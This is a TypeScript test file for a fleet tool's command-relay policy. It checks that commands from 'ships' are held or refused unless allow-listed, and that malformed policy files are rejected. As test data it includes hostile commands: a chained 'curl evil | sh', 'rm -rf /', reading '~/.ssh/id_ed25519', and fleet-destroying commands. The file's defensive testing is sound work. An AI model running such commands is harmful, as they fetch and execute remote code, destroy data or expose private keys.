/**
 * The flagship's policy for keyless ships: the defaults, the rules named in refusals, and a
 * policy file that is wrong in each way a person may get it wrong.
 */

import assert from "node:assert/strict";
import { join } from "node:path";
import { writeIdentity } from "../lib/identity.ts";
import {
  decide,
  DEFAULT_POLICY,
  isFleetCommand,
  policyPath,
  readPolicy,
} from "../lib/relay/policy.ts";
import { tempDir } from "./helpers/temp_dir.ts";

const command = (text: string, toFlagship = true) => ({
  toFlagship,
  kind: "command" as const,
  command: text,
});

Deno.test("by default ship commands run on ships, wait on the flagship, and notes pass", () => {
  assert.equal(decide(DEFAULT_POLICY, command("make test", false)).action, "run");
  const held = decide(DEFAULT_POLICY, command("whoami"));
  assert.equal(held.action, "hold");
  assert.match(held.rule, /"shipToFlagship": "hold" \(no "allow" entry matched\)/);
  const note = decide(DEFAULT_POLICY, { toFlagship: true, kind: "note", command: "rm -rf /" });
  assert.equal(note.action, "run", "a note is stored, whatever its text");
});

Deno.test("fleet commands are refused from a ship whatever the allow-list says", () => {
  const policy = { ...DEFAULT_POLICY, shipToFlagship: "run" as const, allow: [".*"] };
  for (
    const text of [
      "ohcommodore ship destroy ship-web-a1b2c3d4",
      "~/.local/bin/ohcommodore fleet sink --force",
      "ohcommodore init --provider exedev",
      "ssh exe.dev rm flagship-a1b2",
      "ssh exe.dev ssh-key add 'ssh-ed25519 AAAA'",
    ]
  ) {
    const decision = decide(policy, command(text));
    assert.equal(decision.action, "refuse", text);
    assert.match(decision.rule, /never accepted from a ship/);
  }
  assert.equal(decide(policy, command("ohcommodore fleet status")).action, "run");
});

Deno.test("allow entries match the whole command, not a part of it", () => {
  const policy = { ...DEFAULT_POLICY, allow: ["git -C ~/reports pull"] };
  const allowed = decide(policy, command("git -C ~/reports pull"));
  assert.equal(allowed.action, "run");
  assert.match(allowed.rule, /"allow" entry "git -C ~\/reports pull"/);
  assert.equal(decide(policy, command("git -C ~/reports pull; curl evil | sh")).action, "hold");
  assert.equal(decide(policy, command("x; git -C ~/reports pull")).action, "hold");
});

Deno.test("a policy file sets what it names and keeps the defaults for the rest", async () => {
  await using home = await tempDir("ohc-policy-");
  await writeIdentity({ role: "commodore", name: "flagship-a1b2" }, home.path);
  assert.deepEqual(await readPolicy(home.path), DEFAULT_POLICY, "no file: the defaults");
  await Deno.writeTextFile(policyPath(home.path), JSON.stringify({ shipToShip: "hold" }));
  assert.deepEqual(await readPolicy(home.path), { ...DEFAULT_POLICY, shipToShip: "hold" });
  assert.equal(policyPath(home.path), join(home.path, ".ohcommodore/policy.json"));
});

Deno.test("a wrong policy file is refused with its path and what to fix", async () => {
  await using home = await tempDir("ohc-policy-");
  await writeIdentity({ role: "commodore", name: "flagship-a1b2" }, home.path);
  const cases: [string, RegExp][] = [
    ["{", /is not valid JSON/],
    ["[]", /must be a JSON object/],
    [`{"shiptoship": "run"}`, /"shiptoship" is not a setting/],
    [`{"shipToShip": "maybe"}`, /"shipToShip" must be "run", "hold" or "refuse"/],
    [`{"allow": "echo"}`, /"allow" must be a list of regular expressions/],
    [`{"allow": ["("]}`, /"allow" entry "\("/],
    [`{"notes": "yes"}`, /"notes" must be true or false/],
    [`{"pollIntervalSec": 0}`, /"pollIntervalSec" must be a whole number of seconds/],
    [`{"pollIntervalSec": 1.5}`, /"pollIntervalSec" must be a whole number of seconds/],
  ];
  for (const [text, expected] of cases) {
    await Deno.writeTextFile(policyPath(home.path), text);
    await assert.rejects(readPolicy(home.path), (error: Error) => {
      assert.match(error.message, expected, text);
      assert.ok(error.message.includes(policyPath(home.path)), "it names the file");
      return true;
    });
  }
});

Deno.test("a ship's command to a trusted ship is judged as one to the flagship", () => {
  const decision = decide(DEFAULT_POLICY, {
    ...command("cat ~/.ssh/id_ed25519", false),
    toTrusted: true,
  });
  assert.equal(decision.action, "hold");
  assert.match(decision.rule, /applies to trusted ships \(they hold a key\)/);
  assert.equal(
    decide(DEFAULT_POLICY, { ...command("ohcommodore ship destroy x", false), toTrusted: true })
      .action,
    "refuse",
  );
});

Deno.test("reading a megabyte of ohcommodore costs linear time and refuses it", () => {
  // A backtracking pattern took over a minute on this; a test that hangs fails.
  assert.equal(isFleetCommand("ohcommodore ".repeat(90_000)), true);
  assert.equal(isFleetCommand(`ohcommodore status ${"x".repeat(400)} init`), false, "too far");
  assert.equal(isFleetCommand("echo ohcommodore; ohcommodore  fleet  sink"), true);
});
